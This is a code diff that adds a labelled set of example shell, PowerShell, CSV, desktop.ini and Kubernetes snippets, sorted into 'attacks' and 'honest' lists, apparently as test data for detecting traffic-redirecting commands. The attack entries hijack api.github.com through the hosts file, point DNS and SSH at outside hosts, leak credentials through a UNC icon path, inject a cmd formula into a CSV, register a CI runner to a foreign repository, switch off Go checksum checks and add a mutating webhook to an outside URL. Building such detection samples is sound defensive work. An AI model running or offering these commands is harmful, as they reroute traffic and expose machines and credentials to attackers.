@@ -209,3 +209,41 @@ export const TAKEOVERS: ProgramClass[] = [
     ],
   },
 ]
+
+export const ROUTES: ProgramClass[] = [
+  {
+    what: 'names and connections that are led away',
+    attacks: [
+      ['a.sh', 'echo "91.92.242.30 api.github.com" | sudo tee -a /etc/hosts\n'],
+      ['a.sh', 'networksetup -setdnsservers Wi-Fi 91.92.242.30\n'],
+      [
+        'a.ps1',
+        'Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 91.92.242.30\n',
+      ],
+      ['a.sh', `cat >> ~/.ssh/config <<E\nHost github.com\n  User git\n  HostName ${NAME}\nE\n`],
+      ['desktop.ini', '[.ShellClassInfo]\nIconFile=\\\\icons.qz7-labs.io\\s\\a.ico\n'],
+      ['a.csv', "a,=cmd|'/c calc'!A1\n"],
+      [
+        'a.sh',
+        './config.sh --url https://github.com/qz7/jobs --token AQZ7NOTAREALTOKENATALL123 --unattended\n',
+      ],
+      ['a.sh', `export GOPROXY=${HOST}\nexport GOSUMDB=off\n`],
+      [
+        'a.yaml',
+        `kind: MutatingWebhookConfiguration\nwebhooks:\n  - clientConfig:\n      url: ${HOST}/m\n`,
+      ],
+    ],
+    honest: [
+      ['a.sh', 'echo "127.0.0.1 api.local.test" | sudo tee -a /etc/hosts\n'],
+      ['a.sh', 'networksetup -setdnsservers Wi-Fi 1.1.1.1 9.9.9.9\n'],
+      [
+        'a.sh',
+        'printf "Host github.com\\n  HostName ssh.github.com\\n  Port 443\\n" >> ~/.ssh/config\n',
+      ],
+      ['desktop.ini', '[.ShellClassInfo]\nIconFile=folder.ico\n'],
+      ['a.csv', 'a,=SUM(A1:A9)\n'],
+      ['a.sh', './config.sh --url "$REPO" --token "$RUNNER_TOKEN"\n'],
+      ['a.sh', 'export GOPROXY=https://goproxy.cn,direct\n'],
+    ],
+  },
+]
